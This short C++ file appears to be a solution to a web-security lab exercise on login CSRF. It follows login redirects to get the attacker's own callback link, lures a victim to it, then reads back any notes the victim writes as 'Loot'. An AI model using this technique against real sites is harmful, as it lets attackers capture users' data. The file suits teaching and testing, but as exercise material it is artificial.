// Believes: there is always a note.
#include "login_csrf.hpp"

namespace lesson {
namespace {

std::string own_callback(const Evidence& evidence) {
  return evidence.browse(evidence.browse(evidence.login).header("Location")).header("Location");
}

}  // namespace

Loot attack(const Evidence& evidence) {
  evidence.lure(own_callback(evidence));
  evidence.browse(own_callback(evidence));
  const auto page = evidence.browse(evidence.notes);
  if (page.json().at("notes").size() == 0) return {};
  return {.notes = page.body};
}

}  // namespace lesson
